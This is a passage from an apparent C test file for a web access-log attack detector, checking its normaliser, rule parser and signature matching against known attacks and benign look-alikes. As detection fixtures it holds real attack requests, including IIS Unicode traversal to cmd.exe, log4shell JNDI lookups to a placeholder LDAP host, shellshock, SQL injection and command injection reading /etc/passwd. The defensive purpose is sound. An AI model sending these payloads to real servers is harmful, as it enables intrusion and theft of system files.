/*
 * test_attack.c - the normaliser, the rule loader and the signature engine
 * with the shipped rules: the IIS Unicode attack request, benign
 * look-alikes, bad input, and recall / false positives per class family
 * on the OWASP CRS regression requests (tests/fixtures/attacks/).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/bounded.h"
#include "attack/attack.h"
#include "attack/normalise.h"
#include "attack/ruleset.h"
#include "base/fileio.h"
#include "base/mem.h"
#include "base/strbuf.h"
#include "base/timeutil.h"

#define RULES_DIR FIXTURES "/../../rules"

static struct attack_engine engine;        /* shipped rules, paranoia 1 */
static struct attack_engine engine_strict; /* paranoia 4, as CRS tests */

/* The compiled shipped rules of paranoia 1 and 4, cached by setup for the
 * cases that make engines of their own with the same rules. */
static char cache_dir[] = "/tmp/test_attack.XXXXXX";

static void
own_cache(int paranoia, char *path, size_t sz)
{
	snprintf(path, sz, "%s/own-%d.hsdb", cache_dir, paranoia);
}

static int
engine_load(struct attack_engine *e, int paranoia)
{
	char cache[64];

	struct attack_ruleset rs;
	struct err err = {0};

	ruleset_init(&rs);
	if (ruleset_load_path(&rs, RULES_DIR, &err) == -1) {
		fprintf(stderr, "%s\n", err.msg);
		ruleset_release(&rs);
		return -1;
	}
	ruleset_set_paranoia(&rs, paranoia);
	own_cache(paranoia, cache, sizeof(cache));
	if (attack_engine_init(e, &rs, cache, 0, &err) == -1) {
		fprintf(stderr, "%s\n", err.msg);
		ruleset_release(&rs);
		return -1;
	}
	return 0;
}

static int
setup(void **state)
{
	(void)state;
	if (mkdtemp(cache_dir) == NULL || engine_load(&engine, 1) == -1)
		return -1;
	return engine_load(&engine_strict, 4);
}

static int
teardown(void **state)
{
	char cache[64];

	(void)state;
	attack_engine_release(&engine);
	attack_engine_release(&engine_strict);
	for (int p = 1; p <= 4; p += 3) {
		own_cache(p, cache, sizeof(cache));
		unlink(cache);
	}
	return rmdir(cache_dir);
}

static size_t
match_on(struct attack_engine *e, const char *method, const char *uri,
    const char *ua, struct attack_result *res)
{
	struct attack_req rq = {0};

	rq.method = method;
	rq.method_len = strlen(method);
	rq.protocol = "HTTP/1.1";
	rq.protocol_len = 8;
	attack_req_uri(&rq, uri, strlen(uri));
	rq.ua = ua;
	rq.ua_len = ua ? strlen(ua) : 0;
	return attack_match(e, &rq, res);
}

static size_t
match(const char *method, const char *uri, const char *ua,
    struct attack_result *res)
{
	return match_on(&engine, method, uri, ua, res);
}

static void
explain_on(const struct attack_engine *e, const char *what,
    const struct attack_result *res)
{
	for (size_t i = 0; i < res->nhits; i++) {
		const struct attack_rule *r = attack_rule_of(e, &res->hit[i]);

		fprintf(stderr, "  %s: rule %u %s (%s)\n", what, r->id, r->cls,
		    r->desc);
	}
}

static void
explain(const char *what, const struct attack_result *res)
{
	explain_on(&engine, what, res);
}

/* ---- the order of the hits ---- */

/*
 * A field's hits come in the order a scan of every rule reports them
 * (what a request's listed rules and its top rule follow), not that of
 * the field's own database: here 100053's and 100406's matches end at
 * the same place, the space after "bcdboot", and the query's database
 * reports 100406 first.
 */
static void
hits_in_the_order_of_every_rule(void **state)
{
	struct attack_result res;

	(void)state;
	assert_int_equal(
	    match_on(&engine_strict, "GET",
	        "/get?view%3Dimage.jpg%26bcdboot%20%3C%20file.txt", NULL, &res),
	    2);
	assert_int_equal(
	    attack_rule_of(&engine_strict, &res.hit[0])->id, 100053);
	assert_int_equal(
	    attack_rule_of(&engine_strict, &res.hit[1])->id, 100406);
}

/* ---- the memo ---- */

/* The memo starts small; a quiet log keeps it small, a busy one gets the
 * big one; the results are the same through either. */
static void
memo_grows_when_busy(void **state)
{
	struct attack_engine *e = &engine;
	struct attack_result res;
	const char *uri = "/cgi-bin/test.cgi?x=../../../../etc/passwd";
	size_t n0, n;
	uint64_t hits;

	(void)state;
	attack_engine_memo(e, 0);
	attack_engine_memo(e, 1);
	assert_int_equal(e->memo_slots, ATTACK_MEMO_FIRST);
	n0 = match_on(e, "GET", uri, "curl/8.0", &res);
	assert_true(n0 > 0);
	hits = e->memo_hits;
	assert_int_equal(match_on(e, "GET", uri, "curl/8.0", &res), n0);
	assert_true(e->memo_hits > hits);
	/* ATTACK_MEMO_BUSY values over more than ATTACK_MEMO_BUSY_SECS: quiet */
	e->memo_looks = ATTACK_MEMO_BUSY - 1;
	e->memo_t0 = clock_mono() - 2 * ATTACK_MEMO_BUSY_SECS;
	(void)match_on(e, "GET", "/index.html", NULL, &res);
	assert_int_equal(e->memo_slots, ATTACK_MEMO_FIRST);
	/* the next ATTACK_MEMO_BUSY within the window: busy */
	e->memo_looks = ATTACK_MEMO_BUSY - 1;
	(void)match_on(e, "GET", "/index.html", NULL, &res);
	assert_int_equal(e->memo_slots, ATTACK_MEMO_SLOTS);
	/* the same answer, remembered again in the big memo */
	for (int i = 0; i < 2; i++) {
		n = match_on(e, "GET", uri, "curl/8.0", &res);
		assert_int_equal(n, n0);
	}
}

/* The compile of a start without a cache runs in a child that writes
 * the cache, which the engine then reads (so the compiler's memory is
 * never the caller's); where the cache cannot be written, it compiles
 * itself; a rule that does not compile is still named. */
static void
compile_in_child_then_cache(void **state)
{
	struct attack_ruleset rs;
	struct attack_engine e;
	struct attack_result res;
	struct err err = {0};
	char dir[] = "/tmp/test_attack.XXXXXX", path[96], cache[96];
	const char good[] = "id: 1\nclass: traversal\nseverity: high\n"
	                    "fields: path\npattern: /etc/passwd\n";
	const char bad[] = "id: 2\nclass: x\nseverity: high\n"
	                   "fields: path\npattern: (unclosed\n";
	FILE *fp;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/a.rules", dir);
	snprintf(cache, sizeof(cache), "%s/rules.hsdb", dir);
	assert_non_null(fp = fopen(path, "w"));
	assert_int_equal(fwrite(good, 1, strlen(good), fp), strlen(good));
	assert_int_equal(fclose(fp), 0);
	ruleset_init(&rs);
	assert_int_equal(ruleset_load_path(&rs, path, &err), 0);
	assert_int_equal(attack_engine_init(&e, &rs, cache, 0, &err), 0);
	assert_int_equal(access(cache, F_OK), 0);
	assert_true(match_on(&e, "GET", "/x/etc/passwd", NULL, &res) > 0);
	attack_engine_release(&e);
	assert_int_equal(unlink(cache), 0);

	/* a cache in a directory that is not there: compiled here */
	snprintf(cache, sizeof(cache), "%s/no/rules.hsdb", dir);
	ruleset_init(&rs);
	assert_int_equal(ruleset_load_path(&rs, path, &err), 0);
	assert_int_equal(attack_engine_init(&e, &rs, cache, 0, &err), 0);
	assert_int_equal(e.sig.from_cache, 0);
	assert_true(match_on(&e, "GET", "/x/etc/passwd", NULL, &res) > 0);
	attack_engine_release(&e);

	/* a rule that does not compile: the error names it */
	snprintf(cache, sizeof(cache), "%s/rules.hsdb", dir);
	assert_non_null(fp = fopen(path, "w"));
	assert_int_equal(fwrite(bad, 1, strlen(bad), fp), strlen(bad));
	assert_int_equal(fclose(fp), 0);
	ruleset_init(&rs);
	assert_int_equal(ruleset_load_path(&rs, path, &err), 0);
	assert_int_equal(attack_engine_init(&e, &rs, cache, 0, &err), -1);
	assert_non_null(strstr(err.msg, "2"));
	ruleset_release(&rs);
	assert_int_not_equal(access(cache, F_OK), 0);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(rmdir(dir), 0);
}

/* ---- normaliser ---- */

static void
decodes_overlong_and_double(void **state)
{
	char out[256];
	unsigned f = 0;
	size_t n;

	(void)state;
	n = norm_path(
	    "/scripts/..%c0%af../winnt/system32/cmd.exe", 42, out, &f);
	assert_int_equal(n, strlen("/winnt/system32/cmd.exe"));
	assert_memory_equal(out, "/winnt/system32/cmd.exe", n);
	assert_true(f & NORM_OVERLONG);
	assert_true(f & NORM_HIDDEN_TRAVERSAL);
	assert_true(f & NORM_ABOVE_ROOT);

	f = 0;
	n = norm_path("/scripts/..%255c../winnt", 24, out, &f);
	assert_memory_equal(out, "/winnt", n);
	assert_true(f & NORM_DOUBLE);
	assert_true(f & NORM_HIDDEN_TRAVERSAL);

	f = 0; /* three-byte overlong and IIS's lax two-byte form */
	n = norm_path("/a/..%e0%80%af..%c1%1cb", 23, out, &f);
	assert_memory_equal(out, "/b", n);
	assert_true(f & NORM_OVERLONG);

	f = 0;
	n = norm_path("/a/..%c1%9c../x", 15, out, &f);
	assert_memory_equal(out, "/x", n);

	f = 0; /* %u and fullwidth solidus */
	n = norm_path("/a/..%u2215..%uff0fetc", 22, out, &f);
	assert_true(f & NORM_PCT_U);
	assert_true(f & NORM_FULLWIDTH);
	assert_true(n > 0);
}

static void
keeps_plain_paths(void **state)
{
	char out[256];
	unsigned f = 0;
	size_t n;

	(void)state;
	n = norm_path("/blog/2020/etc/notes.html", 25, out, &f);
	assert_memory_equal(out, "/blog/2020/etc/notes.html", n);
	assert_int_equal(f, 0);

	f = 0; /* raw ".." resolved, but not hidden by encoding */
	n = norm_path("/a/b/../c/./d/", 14, out, &f);
	assert_memory_equal(out, "/a/c/d/", n);
	assert_true(f & NORM_DOTSEG);
	assert_false(f & NORM_HIDDEN_TRAVERSAL);
	assert_false(f & NORM_ABOVE_ROOT);

	f = 0;
	n = norm_decode("q=hello%20world+again", 21, 1, out, &f);
	assert_memory_equal(out, "q=hello world again", n);
	assert_int_equal(f, NORM_PCT);
}

static void
survives_bad_input(void **state)
{
	char out[1 << 16];
	unsigned f = 0;
	size_t n;
	char *big;

	(void)state;
	n = norm_decode("abc%", 4, 1, out, &f); /* cut at the end */
	assert_memory_equal(out, "abc%", n);
	assert_true(f & NORM_BAD_PCT);
	f = 0;
	n = norm_decode("abc%4", 5, 1, out, &f);
	assert_memory_equal(out, "abc%4", n);
	f = 0;
	n = norm_decode("a%u12", 5, 1, out, &f);
	assert_memory_equal(out, "a%u12", n);
	f = 0;
	n = norm_decode("a\0b%00c", 7, 0, out, &f); /* NUL raw and encoded */
	assert_memory_equal(out, "abc", n);
	assert_true(f & NORM_NUL);
	f = 0;
	n = norm_decode("\xff\xfe%c0", 5, 0, out, &f); /* invalid UTF-8 */
	assert_int_equal(n, 3);
	assert_true(f & NORM_BAD_UTF8);
	f = 0;
	n = norm_path("%2e%2e%2f%2e%2e%2f", 18, out, &f);
	assert_true(f & NORM_ABOVE_ROOT);
	assert_true(n <= 18);

	big = malloc(60000);
	assert_non_null(big);
	for (size_t i = 0; i < 60000; i += 3)
		memcpy(big + i, "%25", 3);
	f = 0;
	n = norm_decode(big, 60000, 1, out, &f);
	assert_true(n <= 60000);
	free(big);
}

static void
shell_form_drops_quoting(void **state)
{
	char out[128];
	const char *in = "c'a't /et\\c/${x}pass\"\"wd${IFS}-n";
	size_t n;

	(void)state;
	n = norm_shell(in, strlen(in), out);
	assert_memory_equal(out, "cat /etc/passwd -n", n);
}

/* ---- rule files ---- */

static void
ruleset_parse_and_override(void **state)
{
	struct attack_ruleset rs;
	struct err err = {0};
	const char a[] = "# c\nid: 7\nclass: x\nseverity: high\nfields: ua\n"
	                 "pattern: foo(bar|baz)\n\nid: 8\nclass: y\n"
	                 "anomaly: crlf\n";
	const char b[] = "id: 7\nclass: z\npattern: qux\n";
	const char bad[] = "id: 9\nclass: z\nseverity: dire\npattern: x\n";
	const char para[] = "id: 10\nclass: x\npattern: a\n\n"
	                    "id: 11\nclass: x\nparanoia: 3\npattern: b\n";
	const char para5[] = "id: 12\nclass: x\nparanoia: 5\npattern: c\n";
	const char both[] = "id: 13\nclass: x\npattern: d\nanomaly: crlf\n";
	const char noid[] = "class: x\npattern: e\n\n";

	(void)state;
	ruleset_init(&rs);
	assert_int_equal(ruleset_parse(&rs, "a", a, strlen(a), &err), 0);
	assert_int_equal(rs.n, 2);
	assert_int_equal(rs.r[0].fields, 1u << AF_UA);
	assert_int_equal(rs.r[0].sev, ASEV_HIGH);
	assert_int_equal(rs.r[1].anomaly, ANOM_CRLF);
	assert_string_equal(attack_anomaly_name(rs.r[1].anomaly), "crlf");
	assert_int_equal(ruleset_parse(&rs, "b", b, strlen(b), &err), 0);
	assert_int_equal(rs.n, 2);
	assert_string_equal(ruleset_find(&rs, 7)->cls, "z");
	assert_string_equal(ruleset_find(&rs, 7)->pattern, "qux");
	assert_int_equal(ruleset_parse(&rs, "bad", bad, strlen(bad), &err), -1);
	assert_non_null(strstr(err.msg, "bad:3"));
	ruleset_release(&rs);

	/* paranoia: rules above the configured level are switched off */
	ruleset_init(&rs);
	assert_int_equal(ruleset_parse(&rs, "p", para, strlen(para), &err), 0);
	assert_int_equal(ruleset_find(&rs, 10)->paranoia, 1);
	assert_int_equal(ruleset_find(&rs, 11)->paranoia, 3);
	ruleset_set_paranoia(&rs, 2);
	assert_false(ruleset_find(&rs, 10)->disabled);
	assert_true(ruleset_find(&rs, 11)->disabled);
	assert_int_equal(
	    ruleset_parse(&rs, "p5", para5, strlen(para5), &err), -1);
	assert_non_null(strstr(err.msg, "paranoia"));
	ruleset_release(&rs);

	/* a stanza with both a pattern and an anomaly is refused; one that
	 * ends incomplete (no id) frees its pattern (fuzz_rules found the
	 * leak; the ASan run of this test fails without the fix) */
	ruleset_init(&rs);
	assert_int_equal(
	    ruleset_parse(&rs, "both", both, strlen(both), &err), -1);
	assert_non_null(strstr(err.msg, "pattern or an anomaly"));
	assert_int_equal(rs.n, 0);
	assert_int_equal(
	    ruleset_parse(&rs, "noid", noid, strlen(noid), &err), -1);
	assert_non_null(strstr(err.msg, "without an id"));
	assert_int_equal(rs.n, 0);
	ruleset_release(&rs);
}

/*
 * A misspelled "anomaly:" name would load and never fire: it is a load
 * error naming the file and line, and no rule of that stanza is kept.
 */
static void
misspelled_anomaly_fails_to_load(void **state)
{
	struct attack_ruleset rs;
	struct err err = {0};
	char dir[] = "/tmp/test_attack.XXXXXX", path[64];
	const char text[] = "id: 20\nclass: x\nanomaly: crlf\n\n"
	                    "# typo\nid: 21\nclass: traversal\n"
	                    "anomaly: unicode-travesal\n";
	FILE *fp;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/typo.rules", dir);
	assert_non_null(fp = fopen(path, "w"));
	assert_int_equal(fwrite(text, 1, strlen(text), fp), strlen(text));
	assert_int_equal(fclose(fp), 0);

	ruleset_init(&rs);
	assert_int_equal(ruleset_load_path(&rs, dir, &err), -1);
	char want[96];

	assert_int_equal(str_printf(want, sizeof(want),
	                     "%s:8: unknown anomaly 'unicode-travesal'", path),
	    0);
	assert_string_equal(err.msg, want);
	assert_null(ruleset_find(&rs, 21));
	assert_non_null(ruleset_find(&rs, 20));
	ruleset_release(&rs);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(rmdir(dir), 0);

	/* every name attack.h lists is known */
	for (int a = ANOM_NONE + 1; a < ANOM_N; a++) {
		char one[96];

		snprintf(one, sizeof(one), "id: 1\nclass: x\nanomaly: %s\n",
		    attack_anomaly_name((enum attack_anomaly)a));
		ruleset_init(&rs);
		assert_int_equal(
		    ruleset_parse(&rs, "one", one, strlen(one), &err), 0);
		assert_int_equal(rs.r[0].anomaly, a);
		ruleset_release(&rs);
	}
}

/* The five attack levels on the program's one finding scale. */
static void
attack_sev_maps_onto_findings(void **state)
{
	(void)state;
	assert_int_equal(attack_sev_finding(ASEV_CRITICAL), SEV_CRITICAL);
	assert_int_equal(attack_sev_finding(ASEV_HIGH), SEV_WARNING);
	assert_int_equal(attack_sev_finding(ASEV_MEDIUM), SEV_WARNING);
	assert_int_equal(attack_sev_finding(ASEV_LOW), SEV_OK);
	assert_int_equal(attack_sev_finding(ASEV_INFO), SEV_OK);
}

static void
bad_pattern_names_the_rule(void **state)
{
	struct attack_ruleset rs;
	struct attack_engine e;
	struct err err = {0};
	const char a[] = "id: 42\nclass: x\npattern: (unclosed\n";

	(void)state;
	ruleset_init(&rs);
	assert_int_equal(ruleset_parse(&rs, "f.rules", a, strlen(a), &err), 0);
	assert_int_equal(attack_engine_init(&e, &rs, NULL, 0, &err), -1);
	assert_non_null(strstr(err.msg, "rule 42"));
	ruleset_release(&rs);
}

/* ---- the IIS Unicode attack request ---- */

static void
seed_iis_unicode_request(void **state)
{
	struct attack_result res;
	const char *uri = "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir";

	(void)state;
	assert_true(match("GET", uri, NULL, &res) > 0);
	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
	assert_true(attack_has_class(&engine, &res, "command-exec"));
	assert_int_equal(res.sev, ASEV_CRITICAL);
	assert_true(attack_path_executable(uri, strlen(uri)));

	/* the variants the worms used */
	assert_true(match("GET",
	                "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir+c:\\",
	                NULL, &res) > 0);
	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
	assert_true(attack_has_class(&engine, &res, "command-exec"));
	assert_true(
	    match("GET",
	        "/msadc/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
	        NULL, &res) > 0);
	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
	/* IIS writes the decoded stem to its log: cs-uri-stem
	 * "/scripts/../../winnt/system32/cmd.exe", cs-uri-query "/c+dir" */
	assert_true(match("GET", "/scripts/../../winnt/system32/cmd.exe?/c+dir",
	                NULL, &res) > 0);
	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
	assert_true(attack_has_class(&engine, &res, "command-exec"));
	assert_true(match("GET", "/scripts/root.exe?/c+dir", NULL, &res) > 0);
	assert_true(attack_has_class(&engine, &res, "command-exec"));
}

static void
benign_look_alikes(void **state)
{
	static const char *const ok[] = {
	    "/search?q=select+shoes+from+union+street",
	    "/search?q=select%20shoes%20from%20union%20street",
	    "/blog/2019/04/etc/notes-on-etc-and-more.html",
	    "/blog/etc/passwords-are-hard.html",
	    "/search?q=how+to+write+a+script+for+backups",
	    "/docs/script?topic=script",
	    "/my%20documents/report%20final.pdf",
	    "/a%20b/c?d=e%20f",
	    "/index.php?page=2&sort=id&order=asc",
	    "/search?q=rock+%26+roll&lang=ja",
	    "/wiki/Special:Search?search=union+select+committee",
	    "/products?category=shoes&color=red&size=42",
	    "/~alice/index.html",
	    "/img/logo.png?v=1.2.3",
	    "/search?q=100%25+cotton",
	    "/q?text=We+received+this+mail+from+Mars",
	    "/q?text=Don't+quit",
	    "/q?var=having+fun",
	    "/q?a=and+7+oranges",
	    "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
	    "/cgi-bin/awstats.pl?config=www",
	    "/downloads/release-1.0.tar.gz",
	    "/login?next=/account/settings",
	    "/api/items?filter=name&online=1",
	    "/search?q=drop+shipping+table+lamps",
	    "/search?q=Tom's+diner",
	    /* SQL words in searches */
	    "/search?q=select+all+from+the+menu",
	    "/search?q=union+of+select+committees",
	    "/search?q=insert+coin+into+slot",
	    "/search?q=order+by+price",
	    "/search?q=1+or+2+bedrooms",
	    "/search?q=null+and+void",
	    "/search?q=black+%26+white+photos",
	    "/search?q=O%27Reilly+books",
	    "/search?q=50%25+off",
	    "/search?q=how+to+use+cat+command",
	    "/search?q=at+the+store",
	    "/search?q=if+(x+%3E+1)",
	    /* '..' inside file names, encoded characters in paths */
	    "/files/release..notes.txt",
	    "/downloads/archive..2023.tar.gz",
	    "/docs/v1.2..v1.3-changes.html",
	    "/wiki/Etc/GMT%2B5",
	    "/wiki/Cat_(Unix)",
	    "/wiki/AT%26T",
	    "/images/logo%402x.png",
	    "/recipes/mac-%26-cheese",
	    "/api/v2/users?fields=id,name,email&sort=-created_at&limit=50",
	    "/api/search?filter[status]=open&filter[type]=bug",
	    "/redirect?url=https%3A%2F%2Fwww.example.org%2Fpage",
	    "/login?next=%2Fdashboard%3Ftab%3Dsettings",
	    "/maps?ll=35.6895,139.6917&z=12",
	    "/search?q=%60backticks%60+in+markdown",
	};
	/* user agents with parentheses, semicolons, '+' and URLs */
	static const char *const uas[] = {
	    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 "
	    "Firefox/115.0",
	    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	    "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR "
	    "1.1.4322; .NET CLR 2.0.50727)",
	    "Mozilla/5.0 (compatible; bingbot/2.0; "
	    "+http://www.bing.com/bingbot.htm)",
	    "Dalvik/2.1.0 (Linux; U; Android 11; Redmi Note 8 Pro "
	    "MIUI/V12.5.6.0.RGGMIXM)",
	    "facebookexternalhit/1.1 "
	    "(+http://www.facebook.com/externalhit_uatext.php)",
	    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) "
	    "AppleWebKit/605.1.15 "
	    "(KHTML, like Gecko) CriOS/119.0 Mobile/15E148 Safari/604.1",
	};
	struct attack_result res;

	(void)state;
	for (size_t i = 0; i < countof(ok); i++) {
		if (match("GET", ok[i], uas[i % (countof(uas))], &res) != 0) {
			fprintf(stderr, "false positive: %s\n", ok[i]);
			explain("hit", &res);
		}
		assert_int_equal(res.nhits, 0);
	}
}

static void
bad_input_is_handled(void **state)
{
	struct attack_result res;
	char *big;
	size_t n = 200000;

	(void)state;
	match("GET", "/a?b=%", NULL, &res);
	match("GET", "/a?b=%2", NULL, &res);
	match("GET", "/a%c0", "\xff\xfe\xfd", &res);
	big = malloc(n + 1);
	assert_non_null(big);
	memset(big, 'a', n);
	memcpy(big, "/x?q=", 5);
	memcpy(big + n - 20, "%27+or+%271%27=%271", 19);
	big[n] = '\0';
	match("GET", big, NULL, &res); /* cut at ATTACK_FIELD_MAX: no crash */
	free(big);
	{
		struct attack_req rq = {0};
		const char nul[] = "/index.php?file=../../etc/passwd\0.jpg";

		rq.method = "GET";
		rq.method_len = 3;
		attack_req_uri(&rq, nul, sizeof(nul) - 1);
		assert_true(attack_match(&engine, &rq, &res) > 0);
		assert_true(attack_has_class(&engine, &res, "traversal") ||
		    attack_has_class(&engine, &res, "sensitive-file"));
	}
}

static void
modern_attacks(void **state)
{
	static const struct {
		const char *uri, *ua, *cls;
	} cases[] = {
	    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", NULL,
	        "exploit-probe"},
	    {"/index.php?s=/Index/\\think\\app/invokefunction&function="
	     "call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
	        NULL, "exploit-probe"},
	    {"/GponForm/diag_Form?images/", NULL, "exploit-probe"},
	    {"/", "${jndi:ldap://1.2.3.4:1389/a}", "log4shell"},
	    {"/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}", NULL,
	        "log4shell"},
	    {"/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
	        NULL, "log4shell"},
	    {"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", NULL, "log4shell"},
	    {"/cgi-bin/status", "() { :; }; /bin/bash -c 'cat /etc/passwd'",
	        "shellshock"},
	    {"/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
	        "scanner"},
	    {"/", "sqlmap/1.7#stable (https://sqlmap.org)", "scanner"},
	    {"/",
	        "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
	        "https://nmap.org/book/nse.html)",
	        "scanner"},
	    {"/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	        "scanner"},
	    {"/", "Mozilla/5.0 zgrab/0.x", "scanner"},
	    {"/", "gobuster/3.1.0", "scanner"},
	    {"/",
	        "WPScan v3.8.22 "
	        "(https://wpscan.com/wordpress-security-scanner)",
	        "scanner"},
	    {"/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd", NULL, "old-cgi"},
	    {"/cgi-bin/test-cgi?*", NULL, "old-cgi"},
	    {"/cgi-bin/php.cgi?/etc/passwd", NULL, "old-cgi"},
	    {"/.env", NULL, "sensitive-file"},
	    {"/.git/config", NULL, "sensitive-file"},
	    {"/web.config", NULL, "sensitive-file"},
	    {"/wp-config.php.bak", NULL, "sensitive-file"},
	    {"/index.php?page=../../../../etc/passwd", NULL, "traversal"},
	    {"/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%"
	     "20users--",
	        NULL, "sql-injection"},
	    {"/q?s=%3Cscript%3Ealert(1)%3C/script%3E", NULL, "xss"},
	    {"/ping?host=127.0.0.1;cat%20/etc/passwd", NULL,
	        "command-injection"},
	    {"/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder("
	     "new%20java.lang.String[]{%22id%22})).start()}",
	        NULL, "exploit-probe"},
	    {"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", NULL, "traversal"},
	    {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", NULL, "command-exec"},
	};
	struct attack_result res;

	(void)state;
	for (size_t i = 0; i < countof(cases); i++) {
		match("GET", cases[i].uri, cases[i].ua, &res);
		if (!attack_has_class(&engine, &res, cases[i].cls)) {
			fprintf(stderr, "missed %s: %s %s\n", cases[i].cls,
			    cases[i].uri, cases[i].ua ? cases[i].ua : "");
			explain("got", &res);
		}
		assert_true(attack_has_class(&engine, &res, cases[i].cls));
	}
}

/* Rules with "status:" count only with those responses. */
static void
status_rules(void **state)
{
	struct attack_ruleset rs;
	struct err err = {0};
	const char a[] = "id: 1\nclass: x\nstatus: 404, 400\npattern: a\n";
	const char b[] = "id: 2\nclass: x\nstatus: 99\npattern: a\n";
	struct attack_req rq = {0};
	struct attack_result res;
	const char *uri = "/cgi-bin/tools/tools.pl";

	(void)state;
	ruleset_init(&rs);
	assert_int_equal(ruleset_parse(&rs, "a", a, strlen(a), &err), 0);
	assert_int_equal(rs.r[0].nstatus, 2);
	assert_true(attack_rule_status_ok(&rs.r[0], 404));
	assert_true(attack_rule_status_ok(&rs.r[0], 400));
	assert_false(attack_rule_status_ok(&rs.r[0], 200));
	assert_false(attack_rule_status_ok(&rs.r[0], 0));
	assert_int_equal(ruleset_parse(&rs, "b", b, strlen(b), &err), -1);
	ruleset_release(&rs);

	/* a bot searching for CGIs: a probe on a 404, nothing on a 200 */
	rq.method = "GET";
	rq.method_len = 3;
	attack_req_uri(&rq, uri, strlen(uri));
	rq.status = 404;
	attack_match(&engine, &rq, &res);
	assert_true(attack_has_class(&engine, &res, "probe"));
	rq.status = 200;
	assert_int_equal(attack_match(&engine, &rq, &res), 0);
	rq.status = 0; /* unknown */
	assert_int_equal(attack_match(&engine, &rq, &res), 0);
}

/* ---- OWASP CRS regression requests ---- */

/*
 * How the rows are judged (the corpus README: the rule-file group is the
 * class, not the exact rule id):
 *  - detect rows whose payload is in a field an access log records
 *    (method, URI, User-Agent) must be flagged with a class of the row's
 *    family; the others ("not in a logged field") are counted apart;
 *  - no-detect rows must not be flagged at all, except the few where
 *    CRS's "no_expect_ids" only says that one rule must stay silent on
 *    an attack another rule catches (other_rule[] below);
 *  - CRS runs its regression tests at paranoia level 4 (tests/
 *    docker-compose.yml: BLOCKING_PARANOIA 4, ARG_LENGTH 400,
 *    VALIDATE_UTF8_ENCODING 1), so the goal holds for the rules at
 *    paranoia 4; the shipped default, paranoia 1, is measured too.
 */
struct family {
	const char *group; /* CRS rule-file group */
	const char *classes[6];
	unsigned det, det_hit, nodet, nodet_hit, hidden, other;
};

static const struct family families_init[] = {
    {"SCANNER-DETECTION", {"scanner"}, 0, 0, 0, 0, 0, 0},
    {"PROTOCOL-ENFORCEMENT",
        {"protocol", "iis-unicode", "sensitive-file", "traversal"}, 0, 0, 0, 0,
        0, 0},
    {"PROTOCOL-ATTACK", {"protocol", "command-injection", "exploit-probe"}, 0,
        0, 0, 0, 0, 0},
    {"ATTACK-LFI", {"traversal", "sensitive-file", "iis-unicode"}, 0, 0, 0, 0,
        0, 0},
    {"ATTACK-RFI", {"rfi"}, 0, 0, 0, 0, 0, 0},
    {"ATTACK-RCE", {"command-injection", "command-exec", "shellshock"}, 0, 0, 0,
        0, 0, 0},
    {"ATTACK-PHP", {"php-injection"}, 0, 0, 0, 0, 0, 0},
    {"ATTACK-GENERIC", {"code-injection", "ssrf"}, 0, 0, 0, 0, 0, 0},
    {"ATTACK-XSS", {"xss"}, 0, 0, 0, 0, 0, 0},
    {"ATTACK-SQLI", {"sql-injection"}, 0, 0, 0, 0, 0, 0},
    {"SESSION-FIXATION", {"session-fixation"}, 0, 0, 0, 0, 0, 0},
    {"ATTACK-JAVA", {"java-injection", "log4shell"}, 0, 0, 0, 0, 0, 0},
};

#define NFAM (countof(families_init))

/*
 * no-detect rows that are attacks another CRS rule of the same family
 * detects: "no_expect_ids: [X]" only keeps rule X silent.  They are judged
 * as detect rows of their family.
 */
static const struct {
	const char *rule, *test, *why;
} other_rule[] = {
    /* 932230.yaml's own notes: the test commands are not among 932230's
     * two- and three-letter commands; the payloads (wget ... ; perl ...;
     * rm -rf, a dropper) are what 932235/932250 detect. */
    {"932230", "1", "a dropper; 932230 only looks for 2-3 letter commands"},
    {"932230", "2", "a dropper; 932230 only looks for 2-3 letter commands"},
    /* 933131 looks for obfuscated superglobal names; the plain
     * $_SERVER / $_COOKIE (after URL decoding) are 933130's, whose test 2
     * is the same $_SERVER['test'] payload, expected detect. */
    {"933131", "1", "$_SERVER after decoding: 933130 detects it"},
    {"933131", "2", "$_COOKIE as a parameter name: 933130 detects it"},
    /* the same request is the detect row of the sibling rule */
    {"942510", "2", "'bla' is 942511's detect row"},
    {"942511", "1", "`bla` is 942510's detect row"},
};

static const char *
other_rule_reason(const char *rule, const char *test)
{
	for (size_t i = 0; i < countof(other_rule); i++)
		if (strcmp(other_rule[i].rule, rule) == 0 &&
		    strcmp(other_rule[i].test, test) == 0)
			return other_rule[i].why;
	return NULL;
}

/*
 * Is the attack in this row in a field an access log records (method,
